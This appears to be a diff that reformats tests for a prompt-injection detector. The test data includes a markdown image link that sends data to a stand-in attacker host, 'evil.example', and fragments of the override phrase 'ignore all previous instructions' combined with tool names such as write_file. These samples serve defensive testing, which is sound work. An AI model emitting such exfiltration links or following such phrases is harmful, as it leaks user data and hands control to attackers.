@@ -233,12 +233,24 @@ describe("short texts remembered clean", () => {
     const image = "![x](https://evil.example/?data=abc)";
     const allowed = { toolNames: [], allowedHosts: ["evil.example"] };
     for (let i = 0; i < 2; i++) assert.deepEqual(d.inspect(image, allowed).signals, []);
-    assert.deepEqual(d.inspect(image, { toolNames: [] }).signals.map((s) => s.kind), ["exfil_link"]);
+    assert.deepEqual(
+      d.inspect(image, { toolNames: [] }).signals.map((s) => s.kind),
+      ["exfil_link"],
+    );
   });
 
   test("property: remembered or not, the same verdict as a fresh detector's", () => {
     const d = compileInjectionDetector();
-    const pieces = ["text", "content", "ignore ", "all previous ", "instructions", "\u200b", "call ", "write_file"];
+    const pieces = [
+      "text",
+      "content",
+      "ignore ",
+      "all previous ",
+      "instructions",
+      "\u200b",
+      "call ",
+      "write_file",
+    ];
     const tools = [[], ["write_file"], ["files__write_file", "send_email"]];
     fc.assert(
       fc.property(
